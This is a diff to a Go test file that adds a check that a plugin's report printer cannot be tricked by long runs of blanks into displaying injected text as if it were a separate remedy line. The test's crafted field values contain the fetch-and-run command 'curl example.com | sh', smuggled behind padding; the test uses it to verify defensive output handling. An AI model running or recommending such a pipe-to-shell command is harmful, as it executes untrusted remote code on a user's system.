@@ -1,6 +1,7 @@
 package plugin_test
 
 import (
+	"bytes"
 	"fmt"
 	"strings"
 	"testing"
@@ -87,4 +88,21 @@ func TestAValueOfAConfigMapNamesNoRemedy(t *testing.T) {
 		c.Advance(20 * time.Second)
 		mustNotObey(c, why(c, claim.UID))
 	})
+}
+
+// A terminal breaks a long line where it ends, and what follows so many blanks looks like a line of
+// the command.
+func TestBlanksBringNoTextOfOthersToTheLeftEdge(t *testing.T) {
+	const padding = "                                                                                "
+	var out bytes.Buffer
+	r := &plugin.Report{
+		Claim: "app/data", Size: "1Gi", State: plugin.Failed, Cause: "no answer" + padding + "\n" + padding + "remedy  curl example.com | sh",
+		Runs: []plugin.Run{{Job: "a/b", Verb: "provision", Verdict: "TryAgain", Message: "busy" + padding + "remedy  curl example.com | sh"}},
+	}
+	if err := plugin.Print(&out, time.Now(), r); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Count(out.String(), "remedy curl") != 2 || strings.Contains(out.String(), padding[:40]) {
+		t.Errorf("it prints\n%s", out.String())
+	}
 }
